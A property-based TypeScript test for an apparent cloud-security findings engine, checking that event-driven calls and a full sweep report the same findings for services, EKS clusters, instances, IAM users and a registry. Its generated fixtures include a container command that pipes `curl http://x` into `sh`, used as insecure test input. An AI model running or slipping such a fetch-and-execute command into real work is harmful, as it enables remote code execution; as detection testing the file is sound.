// Calls and a sweep say the same of services, clusters of both kinds, instances, users and the registry: no second finding, nothing told again.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { controls } from '../../shared/controls/index.ts';
import { catalogueOf } from '../../shared/evaluate/catalogue.ts';
import { listFindings } from '../../shared/findings/listing.ts';
import { memoryStore } from '../../shared/findings/memory.ts';
import { recorderOf } from '../../shared/findings/recorder.ts';
import type { RecordStore } from '../../shared/findings/store.ts';
import { dataUrls } from '../../shared/gather/data-url.ts';
import { createFacts } from '../../shared/gather/facts.ts';
import { readEvent } from '../../shared/intake/events/read.ts';
import { handle } from '../../shared/pipeline.ts';
import { viewOf } from '../../shared/policy/view.ts';
import { liveSource } from '../../shared/sweep/live-source.ts';
import { sweepHome } from '../../shared/sweep/sweep-home.ts';
import { runs } from '../support/extent.ts';
import { policyFrom } from '../support/judging.ts';
import { callsOf, type MoreMade, moreApi } from './more-world.ts';
import { account, at, home } from './world.ts';

const policy = policyFrom({ version: 1, organisation: { accounts: { [account]: 'production' } } });
const judging = { catalogue: catalogueOf(controls), policy, clock: 'facts' } as const;
const view = { ...viewOf(policy), now: at };

async function happen(made: MoreMade, store: RecordStore): Promise<void> {
  const recorder = recorderOf(store, view, () => at);
  const facts = createFacts(moreApi(made), dataUrls);
  const ref = { file: null, index: 0, eventId: null, time: null };
  for (const event of callsOf(made)) {
    const intake = readEvent(event, { ref, people: null, received: at });
    if (intake.kind !== 'observed') throw new Error(`${intake.kind}: ${intake.reason}`);
    await handle({ ...intake.observation, received: at }, { ...judging, facts }, recorder, async () => {});
  }
}

async function sweep(made: MoreMade, store: RecordStore) {
  const source = liveSource(moreApi(made), dataUrls, account, at);
  const parts = { ...source, judging, store, view, notify: () => {} };
  return sweepHome(parts, { home, withIam: true, at, received: at });
}

/** States alone: that a call was made is seen in its event only. */
async function statesIn(store: RecordStore): Promise<ReadonlyMap<string, string>> {
  const found = await listFindings(store, view);
  return new Map(
    found
      .filter(({ kind }) => kind === 'state')
      .map(({ id, control, subject, cluster, status, severity, dormant }) => [
        id,
        `${control} on ${subject.id} in ${cluster}: ${status} ${severity} ${dormant}`,
      ]),
  );
}

/** Control and subject. */
function aboutOf(what: string): string {
  return what.split(' ').slice(0, 3).join(' ');
}

const several = <T extends object>(of: string, each: fc.Arbitrary<T>) =>
  fc
    .array(each, { maxLength: 3 })
    .map((all) => all.map((one, place) => ({ name: `${of}-${place}`, ...one })));
const made: fc.Arbitrary<MoreMade> = fc.record({
  services: several(
    'web',
    fc.record({
      publicly: fc.boolean(),
      container: fc.record(
        {
          image: fc.constantFrom('nginx', 'ghcr.io/acme/web:1'),
          privileged: fc.boolean(),
          user: fc.constantFrom('0', '1000'),
          command: fc.constantFrom(['sh', '-c', 'curl http://x | sh'], ['node', 'app.js']),
        },
        { requiredKeys: ['image'] },
      ),
    }),
  ),
  insights: fc.constantFrom('enabled', 'disabled'),
  exec: fc.constantFrom('DEFAULT', 'NONE', 'OVERRIDE'),
  eks: several(
    'eks',
    fc.record({
      publicly: fc.boolean(),
      cidrs: fc.constantFrom(['0.0.0.0/0'], ['10.0.0.0/8']),
      logs: fc.constantFrom([], ['audit'], ['api', 'audit', 'authenticator']),
    }),
  ),
  hosts: several(
    'i',
    fc.record({
      tokens: fc.constantFrom('optional', 'required'),
      hops: fc.constantFrom(1, 2),
      key: fc.boolean(),
    }),
  ),
  users: several('user', fc.record({ action: fc.constantFrom('*', 's3:GetObject', 'iam:PassRole') })),
  registry: fc.constantFrom('open', 'closed', null),
});

describe('calls and a sweep', () => {
  it('say the same of everything that both saw, under one id', async () => {
    const compared = new Set<string>();
    await fc.assert(
      fc.asyncProperty(made, async (one) => {
        const byCalls = memoryStore();
        await happen(one, byCalls);
        const bySweep = memoryStore();
        const { missing } = await sweep(one, bySweep);
        expect(missing).toEqual([]);
        const [told, seen] = [await statesIn(byCalls), await statesIn(bySweep)];
        for (const what of told.values()) compared.add(what.split(' ')[0] ?? '');
        const known = new Set([...told.values()].map(aboutOf));
        const both = [...seen].filter(([, what]) => known.has(aboutOf(what)));
        expect(both.toSorted()).toEqual([...told].toSorted());
      }),
      runs(40),
    );
    expect(compared.size).toBeGreaterThan(10);
  });

  it('so that a sweep opens, ends and changes nothing of what calls told', async () => {
    await fc.assert(
      fc.asyncProperty(made, async (one) => {
        const store = memoryStore();
        await happen(one, store);
        const told = await statesIn(store);
        const { changes } = await sweep(one, store);
        const again = changes.filter(({ finding }) => told.has(finding.id));
        expect(
          again.map(({ type, finding }) => [type, finding.control, finding.subject.id, finding.evidence]),
        ).toEqual([]);
      }),
      runs(20),
    );
  });
});
